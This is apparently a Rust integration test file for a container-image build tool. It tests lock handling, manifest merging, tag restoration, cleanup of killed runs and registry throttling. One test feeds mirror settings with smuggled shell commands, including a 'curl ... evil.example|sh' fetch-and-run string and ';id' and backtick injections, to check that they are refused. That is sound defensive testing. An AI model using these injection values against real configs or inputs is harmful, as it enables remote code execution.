        .output()
        .unwrap();
    assert_code(&output, 0);
    assert!(std::fs::symlink_metadata(dir.join("linked.json"))
        .unwrap()
        .file_type()
        .is_symlink());
    let written: Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join("records/manifest.json")).unwrap())
            .unwrap();
    assert_eq!(written["schema_version"], 1);
}

#[test]
fn render_refuses_a_linked_image_directory_and_unsafe_mirrors() {
    let project = Project::new("127.0.0.1:5999", SELFTEST_PASS);
    let dir = project.path();
    let outside = tempfile::tempdir().unwrap();
    let image = dir.join("images").join(RUNTIME_270);
    std::fs::remove_dir_all(&image).unwrap();
    std::os::unix::fs::symlink(outside.path(), &image).unwrap();
    let output = project.imagegen(&["render"]).output().unwrap();
    assert_code(&output, 2);
    assert!(text(&output).contains("symbolic link"), "{}", text(&output));
    assert!(
        std::fs::read_dir(outside.path()).unwrap().next().is_none(),
        "nothing written outside images/"
    );

    for (key, value) in [
        (
            "pip_index",
            "https://pypi.example/simple&&curl${IFS}evil.example|sh",
        ),
        ("apt", "http://apt.example/ubuntu;id"),
        ("torch_index", "https://pytorch.example/whl`id`"),
    ] {
        let matrix = std::fs::read_to_string(dir.join("matrix.yaml")).unwrap();
        let edited = format!("{matrix}mirrors:\n  {key}: \"{value}\"\n");
        std::fs::write(dir.join("edited.yaml"), &edited).unwrap();
        let output = project
            .imagegen(&["--matrix", "edited.yaml", "render"])
            .output()
            .unwrap();
        assert_code(&output, 2);
        let log = text(&output);
        let line = edited.lines().count();
        assert!(
            log.contains(&format!("edited.yaml:{line}:")),
            "{key} is refused at load with its line: {log}"
        );
        assert!(log.contains(&format!("mirrors.{key}")), "{log}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn two_rollbacks_of_one_alias_at_once_leave_the_record_and_the_registry_agreeing() {
    prepare().await;
    let registry = Registry::start();
    let project = Project::new(registry.host(), SELFTEST_PASS);
    let _tags = RemoveTags::of(&project);
    first_build_then_upgrade(&project);
    assert_code(&project.build(&["--push", "--only", RUNTIME_271]), 0);
    let manifest = project.manifest();
    let (old, new) = (
        digest_of(&manifest, RUNTIME_270),
        digest_of(&manifest, RUNTIME_271),
    );
    assert_eq!(manifest["aliases"][ALIAS]["digest"], new.as_str());
    let pid = std::process::id();

    // The first rollback holds the alias and waits for the manifest (the test holds its lock);
    // the second, to the other digest, waits for the first; a third that may not wait says who
    // holds the alias.
    let lock = manifest_file(&project).lock().unwrap();
    let first = Running::start(&project, &["rollback", ALIAS, "--to", &old]);
    first.wait_for_lines(
        &format!("waiting for imagegen-manifest.json (held by pid {pid}"),
        1,
    );
    let second = Running::start(&project, &["rollback", ALIAS, "--to", &new]);
    let holder = format!(
        "waiting for alias {ALIAS}, which another run is moving (held by pid {}",
        first.pid()
    );
    second.wait_for_lines(&holder, 1);
    let third = project
        .imagegen(&["rollback", ALIAS, "--to", &new, "--lock-timeout", "0"])
        .output()
        .unwrap();
    assert_code(&third, 2);
    assert!(
        text(&third).contains(&format!("alias {ALIAS}, which another run is moving"))
            && text(&third).contains(&format!("pid {}", first.pid())),
        "{}",
        text(&third)
    );
    drop(lock);
    let (first_code, first_output) = first.finish();
    let (second_code, second_output) = second.finish();
    assert_eq!(first_code, Some(0), "{first_output}");
    assert_eq!(second_code, Some(0), "{second_output}");

    // The second moved last, and both the registry and the manifest say so, with the first's
    // move in the alias's history.
    let client = project.client(None);
    let path = repository_path_of(&project.repository);
    assert_eq!(
        client
            .manifest_digest(path, ALIAS)
            .await
            .unwrap()
            .map(|digest| digest.to_string()),
        Some(new.clone())
    );
    let after = project.manifest();
    assert_eq!(after["aliases"][ALIAS]["digest"], new.as_str());
    assert_eq!(
        after["aliases"][ALIAS]["history"][0]["digest"],
        old.as_str()
    );
    assert_agrees(&project).await;
}

/// `imagegen` with `args` in the project, its exit code and output.
fn run_imagegen(project: &Project, args: &[&str]) -> (i32, String) {
    let output = project.imagegen(args).output().unwrap();
    (output.status.code().unwrap_or(-1), text(&output))
}

#[tokio::test(flavor = "multi_thread")]
async fn shards_record_their_aliases_and_merge_the_same_in_either_order_or_report_a_conflict() {
    prepare().await;
    let registry = Registry::start();
    let project = Project::new(registry.host(), SELFTEST_PASS);
    let _tags = RemoveTags::of(&project);
    for shard in ["1/2", "2/2"] {
        let manifest = format!("shard-{}.json", &shard[..1]);
        assert_code(
            &project.build(&["--push", "--shard", shard, "--manifest", &manifest]),
            0,
        );
    }
    // Every image record lists the aliases that point at it (hole 1).
    let mut listed = 0;
    for name in ["shard-1.json", "shard-2.json"] {
        let shard: Value =
            serde_json::from_str(&std::fs::read_to_string(project.path().join(name)).unwrap())
                .unwrap();
        for (alias, record) in shard["aliases"].as_object().unwrap() {
            let tag = record["tag"].as_str().unwrap();
            assert!(
                shard["images"][tag]["aliases"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|a| a == alias.as_str()),
                "{name}: {tag} does not list {alias}: {:#}",
                shard["images"][tag]
            );
            listed += 1;
        }
    }
    assert!(listed >= 4, "the shards moved aliases: {listed}");
    let (code, forward) = run_imagegen(
        &project,
        &["manifest", "merge", "shard-1.json", "shard-2.json"],
    );
    assert_eq!(code, 0, "{forward}");
    let (code, backward) = run_imagegen(
        &project,
        &["manifest", "merge", "shard-2.json", "shard-1.json"],
    );
    assert_eq!(code, 0, "{backward}");
    assert_eq!(forward, backward, "merge A B == merge B A");

    // A shard that records another digest under one immutable full tag (hole 5): reported, exit
    // 3, nothing written.
    let mut forged: Value = serde_json::from_str(
        &std::fs::read_to_string(project.path().join("shard-1.json")).unwrap(),
    )
    .unwrap();
    let tag = forged["images"]
        .as_object()
        .unwrap()
        .keys()
        .next()
        .unwrap()
        .clone();
    forged["images"][&tag]["digest"] =
        "sha256:1111111111111111111111111111111111111111111111111111111111111111".into();
    std::fs::write(
        project.path().join("forged.json"),
        serde_json::to_string_pretty(&forged).unwrap(),
    )
    .unwrap();
    let (code, output) = run_imagegen(
        &project,
        &[
            "manifest",
            "merge",
            "shard-1.json",
            "forged.json",
            "--out",
            "merged.json",
        ],
    );
    assert_eq!(code, 3, "{output}");
    assert!(
        output.contains(&format!("full tag {tag}: one manifest records"))
            && output.contains("nothing was written"),
        "{output}"
    );
    assert!(!project.path().join("merged.json").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn an_overwritten_full_tag_is_restored_to_the_recorded_digest() {
    prepare().await;
    let registry = Registry::start();
    let project = Project::new(registry.host(), SELFTEST_PASS);
    let _tags = RemoveTags::of(&project);
    assert_code(&project.build(&["--push", "--only", RUNTIME_270]), 0);
    assert_code(&project.build(&["--push", "--only", RUNTIME_280]), 0);
    let manifest = project.manifest();
    let (recorded, other) = (
        digest_of(&manifest, RUNTIME_270),
        digest_of(&manifest, RUNTIME_280),
    );
    // Someone pushes other content under the immutable full tag.
    let client = project.client(None);
    let path = repository_path_of(&project.repository);
    let foreign = client.get_manifest(path, &other).await.unwrap().unwrap();
    client
        .put_manifest(path, RUNTIME_270, &foreign.media_type, foreign.bytes)
        .await
        .unwrap();
    let (code, report) = verify(&project, &[]);
    assert_eq!(code, 1, "{report:#}");
    let overwritten = finding(&report, RUNTIME_270);
    assert_eq!(overwritten["state"], "differs");
    assert!(
        overwritten["fix"]
            .as_str()
            .unwrap()
            .starts_with(&format!("imagegen restore {RUNTIME_270}")),
        "{report:#}"
    );
    let before = std::fs::read_to_string(manifest_path(&project)).unwrap();
    let (code, output) = run_imagegen(&project, &["restore", RUNTIME_270]);
    assert_eq!(code, 0, "{output}");
    assert!(
        output.contains("(the recorded digest)") && output.contains("no rebuild"),
        "{output}"
    );
    assert_eq!(
        client
            .manifest_digest(path, RUNTIME_270)
            .await
            .unwrap()
            .map(|digest| digest.to_string()),
        Some(recorded.clone())
    );
    assert_eq!(
        std::fs::read_to_string(manifest_path(&project)).unwrap(),
        before,
        "the manifest was right and is unchanged"
    );
    assert_agrees(&project).await;
    let (code, output) = run_imagegen(&project, &["restore", RUNTIME_270]);
    assert_eq!(code, 0, "{output}");
    assert!(output.contains("already serves the recorded"), "{output}");
    let (code, output) = run_imagegen(&project, &["restore", ALIAS]);
    assert_eq!(code, 2, "{output}");
    assert!(output.contains("is an alias, not a full tag"), "{output}");

    // A record whose digest was edited by hand: the registry holds the right image, the record a
    // digest it never had. The fix repairs the record and deletes nothing.
    let edited_digest = format!("sha256:{}", "e".repeat(64));
    let text = std::fs::read_to_string(manifest_path(&project)).unwrap();
    std::fs::write(
        manifest_path(&project),
        text.replace(&other, &edited_digest),
    )
    .unwrap();
    let (code, report) = verify(&project, &[]);
    assert_eq!(code, 1, "{report:#}");
    let fix = finding(&report, RUNTIME_280)["fix"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        fix.contains(&format!("imagegen build --push --only {RUNTIME_280}"))
            && !fix.contains("delete"),
        "{fix}"
    );
    let (code, output) = run_imagegen(&project, &["restore", RUNTIME_280]);
    assert_eq!(code, 2, "{output}");
    assert!(
        output.contains(&format!(
            "`imagegen build --push --only {RUNTIME_280}` repairs the record"
        )) && output.contains("do not delete the tag"),
        "{output}"
    );
    assert_eq!(
        client
            .manifest_digest(path, RUNTIME_280)
            .await
            .unwrap()
            .map(|digest| digest.to_string()),
        Some(other.clone()),
        "restore touched nothing"
    );
    assert_code(&project.build(&["--push", "--only", RUNTIME_280]), 0);
    assert_eq!(digest_of(&project.manifest(), RUNTIME_280), other);
    assert_agrees(&project).await;

    // A manifest with a record given twice (a merge conflict kept on both sides) and one written
    // by a newer imagegen are refused, each with what to do, and left as they are.
    let text = std::fs::read_to_string(manifest_path(&project)).unwrap();
    let start = text.find(&format!("    \"{RUNTIME_270}\": {{")).unwrap();
    let end = start + text[start..].find("\n    }").unwrap() + "\n    }".len();
    let doubled = format!("{},\n{}{}", &text[..end], &text[start..end], &text[end..]);
    let line = text[..end].lines().count() + 1;
    std::fs::write(manifest_path(&project), &doubled).unwrap();
    let (code, output) = run_imagegen(&project, &["verify"]);
    assert_eq!(code, 2, "{output}");
    assert!(
        output.contains(&format!("imagegen-manifest.json:{line}:"))
            && output.contains(&format!("duplicate key `{RUNTIME_270}` under `images`")),
        "{output}"
    );
    assert_eq!(
        std::fs::read_to_string(manifest_path(&project)).unwrap(),
        doubled
    );
    let newer = text.replacen("\"schema_version\": 1", "\"schema_version\": 2", 1) + "";
    let newer = newer.replacen("{\n", "{\n  \"signatures\": {},\n", 1);
    std::fs::write(manifest_path(&project), &newer).unwrap();
    let (code, output) = run_imagegen(&project, &["rollback", ALIAS, "--previous"]);
    assert_eq!(code, 2, "{output}");
    assert!(
        output.contains("was written by a newer imagegen: it has schema version 2")
            && output.contains("reads schema version 1")
            && !output.contains("unknown field"),
        "{output}"
    );
    std::fs::write(manifest_path(&project), &text).unwrap();
}

#[test]
fn two_links_of_other_names_to_one_manifest_take_one_lock() {
    let dir = tempfile::tempdir().unwrap();
    let records = dir.path().join("records");
    std::fs::create_dir(&records).unwrap();
    std::fs::write(records.join("manifest.json"), "{\"schema_version\": 1}\n").unwrap();
    std::os::unix::fs::symlink("records/manifest.json", dir.path().join("a.json")).unwrap();
    std::os::unix::fs::symlink("records/manifest.json", dir.path().join("b.json")).unwrap();
    let held = ManifestFile::new(&dir.path().join("a.json"), PATIENCE)
        .lock()
        .unwrap();
    let output = assert_cmd::Command::cargo_bin("imagegen")
        .unwrap()
        .current_dir(dir.path())
        .args([
            "manifest",
            "merge",
            "records/manifest.json",
            "--out",
            "b.json",
            "--lock-timeout",
            "1",
        ])
        .output()
        .unwrap();
    assert_code(&output, 2);
    assert!(
        text(&output).contains(&format!("held by pid {}", std::process::id())),
        "a write through the other link waits for the same lock: {}",
        text(&output)
    );
    drop(held);
}

#[tokio::test(flavor = "multi_thread")]
async fn containers_of_a_killed_run_are_removed_by_a_later_run_and_a_live_runs_are_not() {
    prepare().await;
    let registry = Registry::start();
    let project = Project::new(registry.host(), SELFTEST_SLOW_PASS);
    let _tags = RemoveTags::of(&project);
    let engine = crate::support::engine().await;
    let prefix = format!("{}/{}:", project.registry, project.repository);
    // A run in its (slow) self-test.
    let slow = Running::start(&project, &build_args(&["--push", "--only", RUNTIME_270]));
    let start = Instant::now();
    let container = loop {
        if let Some(id) = selftest_containers(&engine, &prefix).await.pop() {
            break id;
        }
        assert!(
            start.elapsed() < PATIENCE,
            "no self-test container:\n{}",
            slow.output()
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    // Another run meanwhile looks for leftovers: the live run's container stays.
    project.set_selftest(SELFTEST_PASS);
    assert_code(&project.build(&["--only", RUNTIME_280]), 0);
    assert_eq!(
        selftest_containers(&engine, &prefix).await,
        vec![container.clone()],
        "a live run's container is never removed"
    );
    // Killed (no cleanup of its own): its container stays behind, until the next run removes
    // it. (Other tests' builds, running beside this one, clean up the same way: whichever run
    // starts first removes it, so which run says so is not checked.)
    signal(slow.pid(), SIGKILL);
    let (code, _) = slow.finish();
    assert_eq!(code, None);
    let output = project.build(&["--only", RUNTIME_280]);
    assert_code(&output, 0);
    assert_eq!(
        selftest_containers(&engine, &prefix).await,
        Vec::<String>::new(),
        "the dead run's container {container} is gone: {}",
        text(&output)
    );
}

/// The step images a run's journal lists (`.imagegen/runs/<run>.images`), by journal.
fn journaled_images(project: &Project) -> Vec<(String, Vec<String>)> {
    let dir = project.path().join(".imagegen/runs");
    let Ok(entries) = std::fs::read_dir(&dir) else {
        return Vec::new();
    };
    let mut found: Vec<(String, Vec<String>)> = entries
        .map(|entry| entry.unwrap().path())
        .map(|path| {
            let name = path.file_name().unwrap().to_string_lossy().to_string();
            let images = std::fs::read_to_string(&path)
                .unwrap()
                .lines()
                .map(str::to_string)
                .collect();
            (name, images)
        })
        .collect();
    found.sort();
    found
}

#[tokio::test(flavor = "multi_thread")]
async fn images_of_a_build_killed_mid_step_are_removed_by_the_next_run_and_tagged_ones_kept() {
    prepare().await;
    let registry = Registry::start();
    let project = Project::new(registry.host(), SELFTEST_PASS);
    let _tags = RemoveTags::of(&project);
    let engine = crate::support::engine().await;
    let matrix = std::fs::read_to_string(project.path().join("matrix.yaml")).unwrap();
    std::fs::write(
        project.path().join("matrix.yaml"),
        format!("{matrix}labels:\n  imagegen-test.sleep: \"120\"\n"),
    )
    .unwrap();
    project.imagegen(&["render"]).assert().success();
    let run = Running::start(&project, &build_args(&["--only", RUNTIME_280]));
    let log = project
        .path()
        .join(format!(".imagegen/logs/{RUNTIME_280}.log"));
    wait_until("the build's sleeping step", || {
        std::fs::read_to_string(&log).is_ok_and(|text| text.contains("sleeping"))
    });
    // The steps before the sleeping one are committed, and written down before the kill.
    let journals = journaled_images(&project);
    assert_eq!(
        journals.len(),
        1,
        "one journal, of the running build: {journals:?}"
    );
    let (journal, images) = journals[0].clone();
    assert!(
        images.len() >= 3,
        "the label and the two RUN steps before the sleep: {images:?}\n{}",
        std::fs::read_to_string(&log).unwrap()
    );
    signal(run.pid(), SIGKILL);
    let (code, _) = run.finish();
    assert_eq!(code, None, "killed");
    // Left behind: untagged images nothing names, and the journal that lists them.
    for image in &images {
        let found = engine.image(image).await.unwrap();
        assert!(
            found.as_ref().is_some_and(|i| i.repo_tags.is_empty()),
            "{image} is left untagged: {found:?}"
        );
    }
    // The daemon stops and removes the killed step's container on its own time, and holds the
    // last image a moment after that: the next run, started at once, waits for it rather than
    // build on the killed run's images as cache (an image built on is no leftover to remove).
    // Someone tags the first of them meanwhile: it is theirs now, and stays.
    let kept = format!("imagegen-test/kept-{}", std::process::id());
    let _kept_tag = RemoveTags {
        prefix: format!("{kept}:"),
    };
    engine.tag(&images[0], &kept, "1").await.unwrap();

    std::fs::write(project.path().join("matrix.yaml"), &matrix).unwrap();
    project.imagegen(&["render"]).assert().success();
    let output = project.build(&["--only", RUNTIME_280]);
    assert_code(&output, 0);
    let run_id = journal.trim_end_matches(".images");
    let said = format!(
        "removed {} image(s) left behind by run {run_id}, which is gone",
        images.len() - 1
    );
    assert!(text(&output).contains(&said), "{said}:\n{}", text(&output));
    for image in &images[1..] {
        assert!(
            engine.image(image).await.unwrap().is_none(),
            "{image} of the killed run is removed"
        );
    }
    let tagged = engine.image(&format!("{kept}:1")).await.unwrap();
    assert!(
        tagged.is_some_and(|image| image.id.contains(&images[0])),
        "the image someone tagged stays"
    );
    assert_eq!(
        journaled_images(&project),
        Vec::<(String, Vec<String>)>::new(),
        "the dead run's journal is handled and the finished run's removed"
    );
}

/// A proxy in front of the real registry on 127.0.0.1 that answers the first `throttled`
/// manifest requests with `status` and `Retry-After: retry_after`, and forwards everything else
/// (one request per connection). Returns its port and the times requests reached it.
fn throttling_proxy(
    registry: &str,
    throttled: usize,
    status: u16,
    retry_after: &'static str,
) -> (u16, Arc<Mutex<Vec<Instant>>>) {
    use std::io::Write;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let upstream = registry.to_string();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&seen);
    std::thread::spawn(move || {
        for stream in listener.incoming().map_while(Result::ok) {
            let mut client = stream;
            let mut reader = BufReader::new(client.try_clone().unwrap());
            let mut head = Vec::new();
            let mut content_length = 0usize;
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 {
                    break;
                }
                let lower = line.to_ascii_lowercase();
                if let Some(value) = lower.strip_prefix("content-length:") {
                    content_length = value.trim().parse().unwrap_or(0);
                }
                if lower.starts_with("connection:") {
                    continue;
                }
                if line == "\r\n" {
                    head.extend_from_slice(b"Connection: close\r\n\r\n");
                    break;
                }
                head.extend_from_slice(line.as_bytes());
            }
            let mut body = vec![0; content_length];
            let _ = reader.read_exact(&mut body);
            let manifest_request = String::from_utf8_lossy(&head).contains("/manifests/");
            let count = {
                let mut seen = log.lock().unwrap();
                if manifest_request {
                    seen.push(Instant::now());
                }
                seen.len()
            };
            if manifest_request && count <= throttled {
                let _ = write!(
                    client,
                    "HTTP/1.1 {status} Throttled\r\nRetry-After: {retry_after}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                );
                continue;
            }
            let Ok(mut server) = std::net::TcpStream::connect(&upstream) else {
                continue;
            };
            let _ = server.write_all(&head);
            let _ = server.write_all(&body);
            let mut answer = Vec::new();
            let _ = server.read_to_end(&mut answer);
            let _ = client.write_all(&answer);
        }
    });
    (port, seen)
}

#[tokio::test(flavor = "multi_thread")]
async fn retry_after_from_the_registry_is_honoured_within_the_deadline() {
    prepare().await;
    let registry = Registry::start();
    let project = Project::new(registry.host(), SELFTEST_PASS);
    let _tags = RemoveTags::of(&project);
    assert_code(&project.build(&["--push", "--only", RUNTIME_270]), 0);
    let recorded = std::fs::read_to_string(manifest_path(&project)).unwrap();

    // The registry, behind a proxy that says "429, come back in 2 s" to the first HEAD.
    let (port, seen) = throttling_proxy(registry.host(), 1, 429, "2");
    let proxied = recorded.replace(registry.host(), &format!("127.0.0.1:{port}"));
    std::fs::write(project.path().join("proxied.json"), &proxied).unwrap();
    let start = Instant::now();
    // verify asks the matrix's registry unless told: --registry sends it through the proxy.
    let proxy = format!("127.0.0.1:{port}");
    let (code, output) = run_imagegen(
        &project,
        &[
            "verify",
            "--manifest",
            "proxied.json",
            "--concurrency",
            "1",
            "--registry",
            &proxy,
        ],
    );
    assert_eq!(code, 0, "{output}");
    let times = seen.lock().unwrap().clone();
    assert!(
        times.len() >= 3,
        "the throttled HEAD was asked again: {times:?}"
    );
    assert!(
        times[1] - times[0] >= Duration::from_secs(2),
        "after the 2 s it asked for, not the 1 s backoff: {:?}",
        times[1] - times[0]
    );
    assert!(start.elapsed() < Duration::from_secs(30));

    // One that asks for longer than the deadline: refused at once, saying so.
    let (port, seen) = throttling_proxy(registry.host(), usize::MAX, 503, "120");
    let proxied = recorded.replace(registry.host(), &format!("127.0.0.1:{port}"));
    std::fs::write(project.path().join("proxied.json"), &proxied).unwrap();
    let start = Instant::now();
    let (code, output) = run_imagegen(
        &project,
        &[
            "verify",
            "--manifest",
            "proxied.json",
            "--concurrency",
            "1",
            "--registry-timeout",
            "5",
            "--registry",
            &format!("127.0.0.1:{port}"),
        ],
    );
    assert_eq!(code, 2, "{output}");
    assert!(
        output.contains("retry after 120 s (Retry-After), past the 5 s deadline"),
        "{output}"
    );
    assert!(start.elapsed() < Duration::from_secs(5), "at once");
    assert_eq!(seen.lock().unwrap().len(), 1, "asked once");
}

/// A proxy in front of the real registry on 127.0.0.1, one thread per connection, that holds
/// each manifest request for `hold` before forwarding it and counts how many it holds at once.
/// Returns its port and (held now, most held at once, manifest requests seen).
/// Manifest requests held now, the most held at once, and how many were seen.
type HeldCounts = Arc<Mutex<(usize, usize, usize)>>;

fn counting_proxy(registry: &str, hold: Duration) -> (u16, HeldCounts) {
    use std::io::Write;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let upstream = registry.to_string();
    let counts = Arc::new(Mutex::new((0, 0, 0)));
    let shared = Arc::clone(&counts);
    std::thread::spawn(move || {
        for stream in listener.incoming().map_while(Result::ok) {
            let upstream = upstream.clone();
            let counts = Arc::clone(&shared);
            std::thread::spawn(move || {
                let mut client = stream;
                let mut reader = BufReader::new(client.try_clone().unwrap());
                let mut head = Vec::new();
                loop {
                    let mut line = String::new();
                    if reader.read_line(&mut line).unwrap_or(0) == 0 {
                        return;
                    }
                    if line.to_ascii_lowercase().starts_with("connection:") {
                        continue;
                    }
                    if line == "\r\n" {
                        head.extend_from_slice(b"Connection: close\r\n\r\n");
                        break;
                    }
                    head.extend_from_slice(line.as_bytes());
                }
                let manifest_request = String::from_utf8_lossy(&head).contains("/manifests/");
                if manifest_request {
                    let mut counts = counts.lock().unwrap();
                    counts.0 += 1;
                    counts.1 = counts.1.max(counts.0);
                    counts.2 += 1;
                }
                if manifest_request {
                    std::thread::sleep(hold);
                }
                let mut answer = Vec::new();
                if let Ok(mut server) = std::net::TcpStream::connect(&upstream) {
                    let _ = server.write_all(&head);
                    let _ = server.read_to_end(&mut answer);
                }
                if manifest_request {
                    counts.lock().unwrap().0 -= 1;
                }
                let _ = client.write_all(&answer);
            });
        }
    });
    (port, counts)
}

#[tokio::test(flavor = "multi_thread")]
async fn verify_asks_the_registry_with_bounded_concurrency() {
    prepare().await;
    let registry = Registry::start();
    let project = Project::new(registry.host(), SELFTEST_PASS);
    let _tags = RemoveTags::of(&project);
    assert_code(&project.build(&["--push", "--only", RUNTIME_270]), 0);
    // The pushed record, and 23 copies under tags the registry does not serve: 24 HEADs.
    let mut manifest = project.manifest();
    let record = manifest["images"][RUNTIME_270].clone();
    for copy in 0..23 {
        let tag = format!("{RUNTIME_270}-copy{copy}");
        let mut other = record.clone();
        other["tag"] = Value::from(tag.clone());
        manifest["images"][&tag] = other;
    }
    let text = serde_json::to_string_pretty(&manifest).unwrap();
    for (concurrency, expected_peak) in [("4", 4), ("1", 1)] {
        let (port, counts) = counting_proxy(registry.host(), Duration::from_millis(250));
        let proxy = format!("127.0.0.1:{port}");
        let proxied = text.replace(registry.host(), &proxy);
        std::fs::write(project.path().join("proxied.json"), &proxied).unwrap();
        let (code, output) = run_imagegen(
            &project,
            &[
                "verify",
                "--manifest",
                "proxied.json",
                "--concurrency",
                concurrency,
                "--registry",
                &proxy,
            ],
        );
        // The copies are missing from the registry: drift, exit 1, each named.
        assert_eq!(code, 1, "{output}");
        assert!(
            output.contains(&format!("{RUNTIME_270}-copy22")),
            "{output}"
        );
        let (held, peak, seen) = *counts.lock().unwrap();
        assert_eq!(held, 0, "every request was answered");
        assert!(seen >= 24, "one HEAD per record at least: {seen}");
        assert_eq!(
            peak, expected_peak,
            "--concurrency {concurrency}: at most that many HEADs at once, and that many used"
        );
    }
}
